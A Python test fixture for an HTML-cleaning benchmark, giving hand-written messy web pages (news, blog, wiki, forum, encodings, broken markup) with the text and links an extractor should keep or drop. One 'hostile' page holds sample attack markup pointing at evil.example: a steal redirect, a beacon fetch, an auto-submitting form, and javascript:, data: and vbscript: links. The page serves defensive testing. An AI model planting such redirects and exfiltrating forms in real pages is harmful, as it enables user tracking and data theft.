"""Messy, real-world-shaped HTML pages, each with what a reader of it should get: the fixture of
:mod:`mosaic_gym.bench.bench_html` and of ``tests/test_clean_html.py``.

Written by hand in the shapes crawled pages come in: navigation bars, headers and footers, cookie banners,
sidebars, scripts, styles and noscript, inline event handlers, comments, broken and unclosed markup, layout
tables, iframes, forms (a whole ASP.NET page in one), entities, a huge attribute, pages in windows-1252 and
ISO-8859-1, pages whose ``<title>`` is missing or is not the ``<h1>``, relative, absolute and ``javascript:``
links, and a page that tries to run, redirect and embed things.

Each :class:`MessyPage` says where it is served, its bytes, and what must come through: the title, phrases of
the main text, phrases of boilerplate or script that must not, links (resolved, as the view shows them) that
must be there and links that must not.

Example:
    >>> len(PAGES) >= 12, all(isinstance(p.data, bytes) for p in PAGES)
    (True, True)
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class MessyPage:
    """A page and what a reader of it should get.

    Attributes:
        file: its file in a corpus folder (``news/harbour.html`` is served at ``/news/harbour``).
        data: the file's bytes.
        title: the page's title.
        main: phrases of the main text, each of which must be shown.
        chrome: phrases of navigation, banners, footers, scripts, hidden or embedded parts: none may be shown.
        links: urls (resolved against the page's path) that must be among the page's links.
        not_links: urls that must not be.
    """

    file: str
    data: bytes
    title: str
    main: tuple[str, ...]
    chrome: tuple[str, ...] = ()
    links: tuple[str, ...] = ()
    not_links: tuple[str, ...] = ()

    @property
    def path(self) -> str:
        """Where a corpus folder serves it (``a/index.html`` at ``/a/``)."""
        stem = self.file.removesuffix(".html")
        return "/" + (stem.removesuffix("index") if stem.endswith("/index") else stem)


def _page(file: str, html: str, title: str, main: tuple[str, ...], chrome: tuple[str, ...] = (),
          links: tuple[str, ...] = (), not_links: tuple[str, ...] = (), encoding: str = "utf-8") -> MessyPage:
    return MessyPage(file, html.encode(encoding), title, main, chrome, links, not_links)


_NAV = "".join(f'<li><a href="/section/{s.lower()}">{s}</a></li>' for s in
               ("World", "Politics", "Business", "Tech", "Science", "Sport", "Culture", "Opinion", "Weather"))

NEWS = _page(
    "news/harbour.html",
    f"""<!DOCTYPE html>
<html lang="en"><head>
<meta charset="utf-8"><title>Harbour Bridge Reopens After Two Years | The Tarrow Gazette</title>
<meta name="viewport" content="width=device-width">
<link rel="stylesheet" href="/static/site.css">
<style>.promo {{ color: red }} body::before {{ content: "STYLE TEXT" }}</style>
<script>window.dataLayer = []; function track() {{ document.write("SCRIPT TEXT"); }}</script>
<script type="application/ld+json">{{"@type": "NewsArticle", "headline": "JSON LD TEXT"}}</script>
</head>
<body onload="track()">
<a class="skip-link" href="#content">Skip to content</a>
<div id="cookie-consent" class="cookie-banner">We use cookies to improve your experience.
  <button onclick="accept()">Accept all</button> <a href="/privacy">Privacy policy</a></div>
<header class="site-header"><a href="/"><img src="/logo.png" alt="The Tarrow Gazette"></a>
  <nav><ul>{_NAV}</ul></nav>
  <form action="/search"><input name="q" placeholder="Search the Gazette"><button>Go</button></form></header>
<main id="content"><article>
  <header><h1>Harbour Bridge Reopens After Two Years</h1>
  <p class="byline">By Mira Esk, 4 March 2024</p></header>
  <p>The Harbour Bridge in <a href="../city/tarrow">Port Tarrow</a> reopened on Monday after two years of
  repairs costing <b>41 million</b> crowns.</p>
  <!-- ad slot: SPONSORED COMMENT TEXT -->
  <div class="ad-slot"><a href="https://ads.example.com/click?id=1">Advertisement: buy a boat</a></div>
  <p>Engineers replaced the <em>steel cables</em> first laid in 1911. The full
  <a href="https://example.org/reports/bridge-2024">engineering report</a> is public.</p>
  <p>Residents can <a href="javascript:void(0)" onclick="share()">share this story</a> with friends.</p>
  <footer class="article-tags">Filed under: Infrastructure</footer>
</article></main>
<aside class="sidebar"><h2>Most read</h2><ol><li><a href="/news/ferry">Ferry strike ends</a></li>
  <li><a href="/news/storm">Storm warning issued</a></li></ol></aside>
<div class="newsletter"><p>Get the morning briefing in your inbox.</p><input type="email"></div>
<footer id="site-footer"><p>&copy; 2024 The Tarrow Gazette. All rights reserved.</p>
  <a href="/about">About us</a> <a href="/contact">Contact</a></footer>
<noscript>Please enable JavaScript to view comments.</noscript>
<iframe src="https://comments.example.net/embed"></iframe>
<script>track();</script>
</body></html>""",
    title="Harbour Bridge Reopens After Two Years",
    main=("Harbour Bridge Reopens After Two Years", "By Mira Esk, 4 March 2024",
          "The Harbour Bridge in Port Tarrow reopened on Monday after two years of repairs costing 41 million crowns.",
          "Engineers replaced the steel cables first laid in 1911.", "Filed under: Infrastructure"),
    chrome=("We use cookies", "Accept all", "Skip to content", "Politics", "Weather", "Search the Gazette",
            "Most read", "Ferry strike ends", "morning briefing", "All rights reserved", "About us",
            "Please enable JavaScript", "SCRIPT TEXT", "STYLE TEXT", "JSON LD TEXT", "SPONSORED COMMENT",
            "buy a boat", "dataLayer"),
    links=("/city/tarrow", "https://example.org/reports/bridge-2024"),
    not_links=("/section/politics", "/news/ferry", "/about", "/privacy", "https://ads.example.com/click?id=1",
               "javascript:void(0)"),
)

_BLOG_NAV = "".join(f'<li><a href="/blog/{m}.html">{m.title()} archive</a></li>' for m in
                    ("january", "february", "march", "april", "may", "june"))

BLOG = _page(
    "blog/lenses.html",
    f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<script language="javascript">var hits = 0; // COUNTER SCRIPT</script></head>
<body bgcolor="#ffffff" onLoad="hits++">
<div id="header"><h2 class="logo">Ilse's Workshop Blog</h2><span>Lenses, mirrors and the odd telescope</span></div>
<table width="100%" border="0" cellpadding="0"><tr>
<td valign="top" width="180"><div id="nav"><ul>{_BLOG_NAV}</ul></div>
  <div id="blogroll"><b>Friends</b><br><a href="http://friend.example.com/">Friendly optics</a></div></td>
<td valign="top"><div id="content">
<h1>Grinding a six-inch mirror</h1>
<p class=date>Posted <i>12 June 2009</i>
<p>I finally finished grinding the six-inch mirror for the <a href=../instruments/refractor.html>Brannic refractor</a>.
It took <b>forty hours</b> of work with carborundum grit.
<table class="specs" border=1><tr><th>Focal length<td>1200 mm<tr><th>Grit<td>80, 120, 220
<tr><th>Notes<td><table><tr><td>Pitch lap</td><td>beeswax mix</td></tr></table></table>
<p>Next I will test it with a Foucault tester&hellip; wish me luck!
</div></td>
<td valign="top" width="160"><div class="sidebar-right"><h3>Archives</h3><p>Older posts are in the archive.</p></div></td>
</tr></table>
<div id="footer">Powered by BlogEngine 2.1 &middot; Theme by Nobody</div>
</body></html>""",
    title="Grinding a six-inch mirror",
    main=("Grinding a six-inch mirror", "Posted 12 June 2009",
          "I finally finished grinding the six-inch mirror for the Brannic refractor.", "forty hours",
          "Focal length | 1200 mm", "Pitch lap | beeswax mix", "Next I will test it with a Foucault tester… wish me luck!"),
    chrome=("Lenses, mirrors", "January archive", "Friendly optics", "Archives", "Powered by BlogEngine",
            "COUNTER SCRIPT", "hits"),
    links=("/instruments/refractor.html",),
    not_links=("/blog/january.html", "http://friend.example.com/"),
)

WIKI = _page(
    "wiki/Ilse_Brannic.html",
    """<!DOCTYPE html><html class="client-nojs"><head><meta charset="UTF-8">
<title>Ilse Brannic - Wikipedia</title><script>document.documentElement.className="client-js";</script></head>
<body class="mediawiki">
<div id="mw-page-base" class="noprint"></div>
<a class="mw-jump-link" href="#bodyContent">Jump to navigation</a>
<div id="content" class="mw-body" role="main">
<h1 id="firstHeading" class="firstHeading">Ilse Brannic</h1>
<div id="siteSub">From Wikipedia, the free encyclopedia</div>
<div id="bodyContent">
<table class="infobox vcard"><tbody>
<tr><th colspan="2" class="infobox-above">Ilse Brannic</th></tr>
<tr><th>Born</th><td>3 May 1871<br><a href="/wiki/Ammerby" title="Ammerby">Ammerby</a></td></tr>
<tr><th>Known for</th><td><a href="/wiki/Brannic_Refractor">Brannic refractor</a></td></tr>
</tbody></table>
<p><b>Ilse Brannic</b> (1871&ndash;1950) was an optician from <a href="/wiki/Ammerby">Ammerby</a> who built
the <a href="/wiki/Brannic_Refractor">Brannic refractor</a>.<sup class="reference"><a href="#cite_note-1">[1]</a></sup></p>
<h2><span class="mw-headline">Life</span><span class="mw-editsection">[<a href="/w/index.php?title=Ilse_Brannic&amp;action=edit&amp;section=1">edit</a>]</span></h2>
<p>She studied in <a href="./Port_Tarrow">Port Tarrow</a> and worked with <a href="Oden_Sallow">Oden Sallow</a>.</p>
<h2>References</h2><ol class="references"><li id="cite_note-1">Lunder Optical Society Yearbook, 1952.</li></ol>
<div id="catlinks" class="catlinks">Categories: <a href="/wiki/Category:Opticians">Opticians</a></div>
</div></div>
<div id="mw-navigation"><h2>Navigation menu</h2>
<div id="p-personal" role="navigation"><ul><li><a href="/wiki/Special:UserLogin">Log in</a></li></ul></div>
<div id="mw-panel"><div class="portal" role="navigation"><ul><li><a href="/wiki/Main_Page">Main page</a></li>
<li><a href="/wiki/Special:Random">Random article</a></li></ul></div></div></div>
<div id="footer" role="contentinfo"><ul id="footer-info"><li>This page was last edited on 1 May 2024.</li>
<li>Text is available under the Creative Commons Attribution-ShareAlike License.</li></ul></div>
</body></html>""",
    title="Ilse Brannic",
    main=("Ilse Brannic", "Born | 3 May 1871", "Known for | Brannic refractor",
          "Ilse Brannic (1871–1950) was an optician from Ammerby who built the Brannic refractor.",
          "She studied in Port Tarrow and worked with Oden Sallow.", "Lunder Optical Society Yearbook, 1952."),
    chrome=("Jump to navigation", "Navigation menu", "Log in", "Random article", "last edited",
            "Creative Commons", "client-js"),
    links=("/wiki/Ammerby", "/wiki/Brannic_Refractor", "/wiki/Port_Tarrow", "/wiki/Oden_Sallow",
           "/wiki/Category:Opticians"),
    not_links=("/wiki/Special:UserLogin", "/wiki/Main_Page", "/wiki/Special:Random"),
)

BROKEN = _page(
    "misc/broken.html",
    """<html><head><title>Caf&eacute; notes &amp; errata</title><body>
<div class=main><h1>Caf&eacute; notes &amp; errata
<p>First paragraph with <b>bold <i>and italic</b> misnested</i> tags.
<p>Second paragraph: 5 &lt; 7 &amp;&amp; 7 &gt; 5, and a literal &lt;script&gt;alert(1)&lt;/script&gt; shown as text.
<div><div><span>Unclosed spans and divs &#8212; em dash &#x2014; and&nbsp;no-break spaces.
</td></tr></table>
<p>After stray closing tags: <a href=/misc/errata?page=2&amp;sort=asc>errata, page two</a>
<ul><li>one<li>two<li>three</ul>
<p>Ends without closing anything""",
    title="Café notes & errata",
    main=("First paragraph with bold and italic misnested tags.",
          "Second paragraph: 5 < 7 && 7 > 5, and a literal <script>alert(1)</script> shown as text.",
          "Unclosed spans and divs — em dash — and no-break spaces.", "After stray closing tags: errata, page two",
          "one", "three", "Ends without closing anything"),
    links=("/misc/errata?page=2&sort=asc",),
)

_CP1252 = """<!DOCTYPE html><html><head><meta charset="windows-1252"><title>Café Müller – Speisekarte</title></head>
<body><nav><a href="/">Startseite</a> | <a href="/kontakt">Kontakt</a></nav>
<h1>Café Müller</h1><p>Unsere Spezialität: Apfelstrudel für 4,50 € – naïve Gäste bestellen zwei.</p>
<p>Öffnungszeiten: täglich außer Montag.</p></body></html>"""
CP1252 = MessyPage(
    "de/cafe.html", _CP1252.encode("cp1252"), "Café Müller",
    main=("Unsere Spezialität: Apfelstrudel für 4,50 € – naïve Gäste bestellen zwei.",
          "Öffnungszeiten: täglich außer Montag."),
    chrome=("Startseite", "Kontakt"),
    not_links=("/kontakt",),
)

_LATIN1 = """<html><head><META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=ISO-8859-1">
<title>Résumé de la réunion</title></head><body>
<p>Procès-verbal rédigé à Genève, année fiscale ½.</p></body></html>"""
LATIN1 = MessyPage("fr/reunion.html", _LATIN1.encode("latin-1"), "Résumé de la réunion",
                   main=("Procès-verbal rédigé à Genève, année fiscale ½.",))

_HUGE = "A" * 3_000_000
HOSTILE = _page(
    "x/hostile.html",
    f"""<!DOCTYPE html><html><head><title>Ordinary page</title>
<meta http-equiv="refresh" content="0; url=http://evil.example/steal">
<base href="http://evil.example/">
<link rel="preconnect" href="http://evil.example">
<script src="http://evil.example/x.js"></script>
<script>fetch("http://evil.example/beacon"); location.href = "http://evil.example/go"; // EXEC TEXT</script>
</head><body onload="alert('ONLOAD')" onunload="steal()">
<p>Visible paragraph one.</p>
<iframe srcdoc="&lt;p&gt;IFRAME SECRET&lt;/p&gt;"></iframe><iframe src="http://evil.example/frame">FRAME FALLBACK</iframe>
<object data="http://evil.example/x.swf">OBJECT FALLBACK</object><embed src="http://evil.example/x.swf">
<svg><script>alert("SVG SCRIPT")</script><text>SVG TEXT</text></svg>
<form action="http://evil.example/post" method="post"><input type="hidden" name="t" value="FORM VALUE">
<button>Submit now</button></form><script>document.forms[0].submit()</script>
<template><p>TEMPLATE TEXT</p></template>
<div style="display:none">HIDDEN BY STYLE</div><div hidden>HIDDEN ATTRIBUTE</div>
<span aria-hidden="true">ARIA HIDDEN</span>
<p data-blob="{_HUGE}" title="{_HUGE[:100000]}">After the huge attribute.</p>
<p onmouseover="steal()">Links: <a href="javascript:alert(1)">js link</a>, <a href="  JaVaScRiPt:alert(2)">mixed case js</a>,
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>,
<a href="vbscript:msgbox(1)">vb link</a>, <a href="relative/page">a relative link</a>,
<a href="//cdn.example.net/lib">a protocol-relative link</a>.</p>
<dialog open>DIALOG TEXT</dialog>
</body></html>""",
    title="Ordinary page",
    main=("Visible paragraph one.", "After the huge attribute.",
          "Links: js link, mixed case js, data link, vb link, a relative link, a protocol-relative link."),
    chrome=("EXEC TEXT", "ONLOAD", "IFRAME SECRET", "FRAME FALLBACK", "OBJECT FALLBACK", "SVG SCRIPT", "SVG TEXT",
            "FORM VALUE", "Submit now", "TEMPLATE TEXT", "HIDDEN BY STYLE", "HIDDEN ATTRIBUTE", "ARIA HIDDEN",
            "DIALOG TEXT", "AAAAAAAAAA"),
    links=("/x/relative/page", "//cdn.example.net/lib"),
    not_links=("javascript:alert(1)", "http://evil.example/steal", "http://evil.example/relative/page"),
)

TITLE_DIFFERS = _page(
    "people/oden.html",
    """<html><head><title>Welcome to the Sallow family pages</title></head><body>
<h1>Oden Sallow</h1><p>Oden Sallow charted the comet that bears his name in 1894.</p></body></html>""",
    title="Welcome to the Sallow family pages",
    main=("Oden Sallow", "Oden Sallow charted the comet that bears his name in 1894."),
)

NO_TITLE = _page(
    "people/mira.html",
    """<html><head><meta charset="utf-8"></head><body>
<div class="top-menu"><a href="/people/">People</a> &gt; <a href="/people/m">M</a></div>
<div class="post"><h1>  Mira   Esk  </h1><p>Mira Esk led the Tarrow Gazette from 1920 to 1951.</p></div>
</body></html>""",
    title="Mira Esk",
    main=("Mira Esk led the Tarrow Gazette from 1920 to 1951.",),
    chrome=("People",),
    not_links=("/people/",),
)

OG_TITLE = _page(
    "people/vell.html",
    """<html><head><meta property="og:title" content="The Vell Lighthouse"></head><body>
<p>The Vell lighthouse was lit in 1867 and automated in 1988.</p></body></html>""",
    title="The Vell Lighthouse",
    main=("The Vell lighthouse was lit in 1867 and automated in 1988.",),
)

_ASPX_NAV = "".join(f'<a href="Default.aspx?tab={i}">Tab {i}</a> ' for i in range(1, 13))
ASPNET = _page(
    "gov/notice.html",
    f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Public notice 14/2023 - Lunder Harbour Authority</title></head>
<body><form name="aspnetForm" method="post" action="./notice.aspx" id="aspnetForm">
<input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="/wEPDwUKMTY1NDU2MTA1MmRkVIEWSTATE" />
<div id="ctl00_TopMenu" class="menu">{_ASPX_NAV}</div>
<div id="ctl00_Search" class="search-box"><input name="q" /><input type="submit" value="Find" /></div>
<table id="layout"><tr><td id="ctl00_Body">
<h1>Public notice 14/2023</h1>
<p>The north pier of <a href="Port_Tarrow.aspx">Port Tarrow</a> is closed to vessels over 40 metres from 1 April.</p>
<p>Questions go to the harbour master, <a href="mailto:master@harbour.example">master@harbour.example</a>.</p>
</td></tr></table>
<div class="newsletter-signup"><span>Subscribe to notices</span> <input type="email" /></div>
<div id="ctl00_Footer" class="footer">Lunder Harbour Authority &middot; <a href="Accessibility.aspx">Accessibility</a></div>
</form></body></html>""",
    title="Public notice 14/2023",
    main=("Public notice 14/2023",
          "The north pier of Port Tarrow is closed to vessels over 40 metres from 1 April.",
          "Questions go to the harbour master, master@harbour.example."),
    chrome=("Tab 1", "Tab 12", "Find", "Subscribe to notices", "Accessibility", "VIEWSTATE"),
    links=("/gov/Port_Tarrow.aspx",),
    not_links=("/gov/Default.aspx?tab=1", "/gov/Accessibility.aspx"),
)

APP_SHELL = _page(
    "app/index.html",
    """<!doctype html><html><head><title>Harbour Tides</title>
<script defer src="/static/js/main.4f2a.js"></script></head>
<body><noscript>You need to enable JavaScript to run this app.</noscript><div id="root"></div>
<script>window.__INITIAL_STATE__ = {"tides": "STATE TEXT"}</script></body></html>""",
    title="Harbour Tides",
    main=(),
    chrome=("You need to enable JavaScript", "STATE TEXT"),
)

_LIST_NAV = "".join(f'<a href="/shop/{c}">{c.title()}</a>' for c in ("maps", "charts", "tools", "gifts", "sale"))
_ITEMS = "".join(f'<li><a href="/catalogue/{n.replace(" ", "_")}">{n}</a> &ndash; {d}</li>' for n, d in (
    ("Corra Island chart", "1:25,000, 1998 survey"), ("Hesk Island chart", "1:50,000"),
    ("Lunder Archipelago atlas", "bound, 64 plates"), ("Tarrow harbour plan", "1911 reprint"),
    ("Vell sound soundings", "fathoms and metres"), ("Ammerby town map", "folded")))
LISTING = _page(
    "catalogue/index.html",
    f"""<html><head><title>Catalogue of charts</title></head><body>
<header><div class="logo">Archipelago Charts Ltd.</div><nav>{_LIST_NAV}</nav></header>
<main><h1>Catalogue of charts</h1><p>Every chart we print, newest survey first.</p><ul class="items">{_ITEMS}</ul></main>
<footer><p>Archipelago Charts Ltd., registered in Ammerby.</p></footer></body></html>""",
    title="Catalogue of charts",
    main=("Every chart we print, newest survey first.", "Corra Island chart – 1:25,000, 1998 survey",
          "Ammerby town map – folded"),
    chrome=("Archipelago Charts Ltd.", "Gifts", "registered in Ammerby"),
    links=("/catalogue/Corra_Island_chart", "/catalogue/Ammerby_town_map", "/catalogue/Vell_sound_soundings"),
    not_links=("/shop/maps", "/shop/sale"),
)

_POSTS = "".join(
    f'<div class="comment" id="c{i}"><span class="comment-author">{who}</span><div class="comment-body">{text}</div>'
    f'<a class="reply-link" href="javascript:reply({i})">reply</a></div>'
    for i, (who, text) in enumerate((
        ("hesk_sailor", "Is the Corra Island light still manned?"),
        ("old_keeper", "No, it was automated in 1988, the same year as Vell."),
        ("hesk_sailor", "Thanks, that matches the 1998 chart notes."))))
FORUM = _page(
    "forum/thread-42.html",
    f"""<html><head><title>Is the Corra light manned? - Harbour Forum</title></head><body>
<div id="topnav" class="navbar"><a href="/forum/">Forums</a> <a href="/forum/login">Sign in</a></div>
<div class="breadcrumbs"><a href="/forum/">Forum index</a> &raquo; <a href="/forum/lights">Lighthouses</a></div>
<h1>Is the Corra light manned?</h1>
<div class="thread">{_POSTS}</div>
<div class="share-bar"><a href="https://social.example/share?u=42">Share on Social</a></div>
</body></html>""",
    title="Is the Corra light manned?",
    main=("Is the Corra Island light still manned?", "No, it was automated in 1988, the same year as Vell.",
          "old_keeper", "Thanks, that matches the 1998 chart notes."),
    chrome=("Sign in", "Forum index", "Share on Social"),
    not_links=("/forum/login", "/forum/lights", "https://social.example/share?u=42"),
)

ALMANAC = _page(
    "almanac/tides-may.html",
    """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Tide tables for May | Harbour Almanac</title></head>
<body><header class="site-header"><h1 class="site-title"><a href="/">Harbour Almanac</a></h1>
<nav><a href="/almanac/april">April</a> <a href="/almanac/june">June</a></nav></header>
<main><h2>Tide tables for May</h2>
<p>High water at Port Tarrow falls between 04:10 and 05:40 in the first week of May, and the spring tides of the
ninth reach 4.6 metres at the north pier. Neap tides in the third week stay under 2.9 metres; the Vell sound bar
dries at low water on the twenty-second.</p>
<table><tr><th>Date</th><th>High water</th><th>Height</th></tr><tr><td>9 May</td><td>05:12</td><td>4.6 m</td></tr>
</table></main>
<footer><p>Harbour Almanac is published by the Lunder Harbour Authority.</p></footer></body></html>""",
    title="Tide tables for May",
    main=("Tide tables for May", "the spring tides of the ninth reach 4.6 metres at the north pier",
          "9 May | 05:12 | 4.6 m"),
    chrome=("April", "June", "published by the Lunder Harbour Authority"),
    not_links=("/almanac/april",),
)

_DEEP = "<div>" * 3000
DEEP = _page(
    "x/deep.html",
    f"<html><head><title>Deep page</title></head><body><p>Before the deep nesting.</p>{_DEEP}"
    f"<p>Deep inside.</p>{'</div>' * 3000}</body></html>",
    title="Deep page",
    main=("Before the deep nesting.",),
)

#: Every page, in a fixed order.
PAGES: tuple[MessyPage, ...] = (NEWS, BLOG, WIKI, BROKEN, CP1252, LATIN1, HOSTILE, TITLE_DIFFERS, NO_TITLE,
                                OG_TITLE, ASPNET, APP_SHELL, LISTING, FORUM, ALMANAC, DEEP)
